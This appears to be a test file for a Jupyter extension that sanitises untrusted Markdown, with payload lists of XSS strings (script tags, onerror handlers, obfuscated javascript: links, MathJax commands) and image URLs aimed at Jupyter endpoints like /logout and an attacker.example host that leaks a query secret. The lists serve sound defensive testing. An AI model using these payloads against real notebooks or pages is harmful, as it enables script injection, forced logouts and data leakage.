"""Untrusted Markdown rendered inertly: the HTML we hand JupyterLab, and the Markdown we write to files."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from oblix_jupyter.render import (
    image_is_inline,
    inert_markdown,
    link_allowed,
    markdown_html,
)

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
# Images that would make the browser request something: another host, or the Jupyter
# server's own URLs (a GET to /logout logs out; on a hub, the hub's API is one path away).
FETCHING_IMAGES = [
    "![x](/logout)",
    "![x](../api/contents?content=1)",
    "![x](files/x.png)",
    "![x](./x.png)",
    "![x](//attacker.example/x.png)",
    "![x](\\\\attacker.example/x.png)",
    "![x](/\\attacker.example/x.png)",
    "![x]( /logout )",
    "![x](</hub/api/users/me/server>)",
    '![x](/logout "a title")',
    "![x](%2Flogout)",
    "![x](&#47;logout)",
    "![x](https://attacker.example/x.png)",
    "![x](HTTP://attacker.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x][r]\n\n[r]: /logout",
    "![x]\n\n[x]: /api/shutdown",
    "![x][]\n\n[x]: <files/x.png>",
    "[![x](/logout)](https://example.org)",
    "| a |\n|---|\n| ![x](/logout) |",
    "# ![x](/logout)",
    "> ![x](/logout)",
    "- ![x](/logout)",
    "<img src=/logout>",
    '<img srcset="/logout 1x, /api/shutdown 2x">',
    "<picture><source srcset=/logout><img src=/x></picture>",
    "<image href=/logout>",
    "</logout>",
    "<https://attacker.example/x.png>",
    "![x](/logout)![y](/logout2)",
]

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "[click](javascript:alert(1))",
    "[click](jav&#97;script:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "[vb](VBScript:msgbox(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![leak](https://attacker.example/?q=secret)",
    "![](//attacker.example/x.png)",
    "![ref][img]\n\n[img]: http://attacker.example/x.png",
    "<https://attacker.example/auto>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\require{cancel}\\style{background:url(http://attacker.example)}{x}$$",
    "```\n```~\n<img src=x onerror=alert(2)>\n```",
]
ALLOWED_TAGS = {
    "div", "p", "span", "strong", "em", "s", "code", "pre", "a", "img", "h1", "h2", "h3", "h4", "h5", "h6",
    "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"class", "href", "title", "src", "alt", "style", "start"}


class Inspector(HTMLParser):
    """Every tag and attribute of an HTML fragment, for checking what a browser could act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def acted_on(rich: str) -> list[tuple[str, dict[str, str]]]:
    inspector = Inspector()
    inspector.feed(rich)
    inspector.close()
    return inspector.tags


def assert_inert(rich: str) -> None:
    for tag, attributes in acted_on(rich):
        assert tag in ALLOWED_TAGS, (tag, rich)
        assert set(attributes) <= ALLOWED_ATTRIBUTES, (tag, attributes)
        if "href" in attributes:
            assert link_allowed(attributes["href"]), attributes
        if tag == "img":
            assert image_is_inline(attributes["src"]), attributes
        if "style" in attributes:
            assert "url(" not in attributes["style"] and tag == "span", attributes
    for tex in re.findall(r'class="mathjax_process">(.*?)</(?:span|div)>', rich, re.DOTALL):  # all MathJax reads
        assert not re.search(r"\\(href|require|style|class|cssId|data)(?![A-Za-z])", tex), tex


def test_every_payload_renders_inert_and_shows_the_raw_html_as_text():
    for payload in PAYLOADS:
        rich = markdown_html(f"Before.\n\n{payload}\n\nAfter.")
        assert_inert(rich)
        assert rich.startswith('<div class="oblix-markdown mathjax_ignore">')
    shown = markdown_html(PAYLOADS[0])
    assert "&lt;script&gt;window.pwned = 1&lt;/script&gt;" in shown  # visible, as the model wrote it


def test_every_image_is_a_link_with_its_alt_text_even_one_from_the_jupyter_server():
    rich = markdown_html("![the chart](https://attacker.example/c.png?q=secret) and ![plot](plots/a.png) and ![](/logout)")
    tags = acted_on(rich)
    assert ("a", {"href": "https://attacker.example/c.png?q=secret", "title": "image not loaded: https://attacker.example/c.png?q=secret"}) in tags
    assert ("a", {"href": "plots/a.png", "title": "image not loaded: plots/a.png"}) in tags
    assert ">the chart</a>" in rich and ">plot</a>" in rich and ">image</a>" in rich
    assert not [tag for tag, _ in tags if tag == "img"]


def test_no_image_syntax_makes_a_tag_that_fetches():
    for attack in FETCHING_IMAGES:
        rich = markdown_html(f"Before ![ok]({PIXEL}) {attack} after.")
        assert_inert(rich)
        sources = [attributes.get("src") for tag, attributes in acted_on(rich) if tag in ("img", "source", "image")]
        assert sources == [PIXEL], (attack, rich)


def test_an_inline_raster_image_stays_an_image_and_a_link_to_one_is_text():
    rich = markdown_html(f"![dot]({PIXEL}) [as a link]({PIXEL}) <{PIXEL}>")
    tags = acted_on(rich)
    assert tags.count(("img", {"src": PIXEL, "alt": "dot"})) == 1
    assert not [tag for tag, _ in tags if tag == "a"], rich
    assert f" as a link {PIXEL}" in rich  # the autolink's address, as text
    for address in (PIXEL, "data:image/png;base64,iVBORw0K", "DATA:IMAGE/JPEG;base64,/9j/", " data:image/webp;base64,UklG"):
        assert image_is_inline(address), address
    for address in ("data:image/svg+xml;base64,PHN2Zz4=", "data:image/png+xml,x", "data:text/html,<b>", "/x.png", "image/png"):
        assert not image_is_inline(address), address


def test_script_links_are_plain_text():
    for payload in ("[x](javascript:alert(1))", "[x](jav&#97;script:alert(1))", "[x]( JavaScript:alert(1))", "[x](java\tscript:alert(1))"):
        rich = markdown_html(payload)
        assert not [tag for tag, _ in acted_on(rich) if tag == "a"], rich


def test_normal_markdown_keeps_its_formatting():
    answer = (
        "## Result\n\nUse **groupby** with `dropna=False`:\n\n"
        "```python\ndf.groupby('k', dropna=False).sum()  # keeps NaN keys\n```\n\n"
        "| key | total |\n|---|---|\n| a | 1 |\n\n"
        "- one\n- two\n\nSee [the docs](https://pandas.pydata.org) or https://pandas.pydata.org/docs. "
        "The mean is $\\bar{x} = \\frac{1}{n}\\sum x_i$, ~~not~~ *roughly*.\n\n$$E = mc^2$$"
    )
    tags = [tag for tag, _ in acted_on(markdown_html(answer))]
    for expected in ("h2", "strong", "code", "pre", "table", "th", "td", "ul", "li", "a", "s", "em"):
        assert expected in tags, expected
    rich = markdown_html(answer)
    assert 'color: var(--jp-mirror-editor-keyword-color)' in rich or "var(--jp-mirror-editor-" in rich  # highlighted
    assert '<span class="mathjax_process">$\\bar{x} = \\frac{1}{n}\\sum x_i$</span>' in rich
    assert '<div class="mathjax_process">$$E = mc^2$$</div>' in rich
    assert '<a href="https://pandas.pydata.org/docs">' in rich  # a bare address is a link, as in JupyterLab
    assert "costs $5 and $10" in markdown_html("It costs $5 and $10.")  # dollars are not maths


def test_maths_commands_that_link_style_or_load_are_disabled():
    rich = markdown_html("$\\href{javascript:alert(1)}{x} + \\require{cancel} + \\style{color:red}{y} + \\hrefx$")
    assert "\\href{" not in rich and "\\require" not in rich and "\\style" not in rich
    assert "\\hrefx" in rich  # another command that merely starts the same is left alone


def test_inert_markdown_escapes_html_outside_code_and_keeps_code_as_written():
    text = (
        "A <b>tag</b> and `List<int>` inline.\n\n| a `x<y` | b |\n|---|---|\n| <i>1</i> | 2 |\n\n"
        "> quoted `q<r` and <u>u</u>\n\n```python\nif a < b: print('<b>')\n```\n\n    indented <code>\n"
    )
    inert = inert_markdown(text)
    assert "A &lt;b>tag&lt;/b> and `List<int>` inline." in inert
    assert "| a `x<y` | b |" in inert and "| &lt;i>1&lt;/i> | 2 |" in inert
    assert "> quoted `q<r` and &lt;u>u&lt;/u>" in inert
    assert "```python\nif a < b: print('<b>')\n```" in inert and "    indented <code>" in inert
    assert inert_markdown("no html here, *just* `code`") == "no html here, *just* `code`"


def test_inert_markdown_turns_every_image_into_a_link_and_drops_script_links():
    inert = inert_markdown(
        "![chart](https://attacker.example/c.png) ![](//x.example/y.png) ![plot](a.png) ![out](/logout) "
        f"![dot]({PIXEL}) [x](javascript:alert(1)) [ok](https://a.example)"
    )
    assert inert == (
        "[chart](https://attacker.example/c.png) [image](//x.example/y.png) [plot](a.png) [out](/logout) "
        f"[dot]&#40;{PIXEL}) [x]&#40;javascript:alert(1)) [ok](https://a.example)"
    )
    for attack in FETCHING_IMAGES:
        for tag, attributes in trusting_renderer_output(inert_markdown(attack)):
            assert tag not in ("img", "source", "image", "picture"), (attack, tag, attributes)


def trusting_renderer_output(markdown: str) -> list[tuple[str, dict[str, str]]]:
    """What a renderer that passes raw HTML through (as JupyterLab does for live outputs) would produce."""
    return acted_on(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))


fragments = st.sampled_from(
    [*PAYLOADS, *FETCHING_IMAGES, f"![ok]({PIXEL})", "`", "``", "```", "\n", "\n\n", "    ", "> ", "- ", "| a | b |\n|---|---|\n", "*", "_", "[", "]", "(", ")", "!", "<", ">", "$", "\\", "&#97;", "text", "**bold**"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(fragments | st.text(max_size=6), max_size=12).map("".join))
def test_whatever_the_text_the_html_is_inert(text):
    assert_inert(markdown_html(text))


@settings(max_examples=300, deadline=None)
@given(st.lists(fragments | st.text(max_size=6), max_size=12).map("".join))
def test_whatever_the_text_a_trusting_renderer_of_the_inert_markdown_runs_and_loads_nothing(text):
    for tag, attributes in trusting_renderer_output(inert_markdown(text)):
        assert tag in ALLOWED_TAGS and not any(name.startswith("on") for name in attributes), (tag, text)
        if tag == "img":
            assert image_is_inline(attributes["src"]), (attributes, text)
        if tag == "a":
            assert link_allowed(attributes["href"]), (attributes, text)


# A fresh process where several threads render their first answer at once, as the load's background
# preparation and a first ``%oblix show`` do: Pygments' formatters load lazily, and two threads doing
# that together got "cannot import name 'HtmlFormatter'" (a UI test caught it as a traceback in a cell).
FIRST_RENDERS_AT_ONCE = """
import threading
from oblix_jupyter.render import inert_markdown, markdown_html
start, errors = threading.Barrier(6), []
def render(how):
    start.wait()
    try:
        how("```python\\npass\\n```\\n\\n$x$ and a https://example.com link")
    except Exception as error:
        errors.append(repr(error))
threads = [threading.Thread(target=render, args=(how,)) for how in (markdown_html, inert_markdown) * 3]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(errors)
"""


def test_the_first_renders_of_a_process_can_happen_on_several_threads_at_once():
    import subprocess
    import sys

    for _ in range(6):  # without the lock, three runs in four failed (ImportError), and one in a dozen (IndexError)
        run = subprocess.run([sys.executable, "-c", FIRST_RENDERS_AT_ONCE], capture_output=True, text=True, timeout=60)
        assert run.returncode == 0 and run.stdout.strip() == "[]", run.stdout + run.stderr
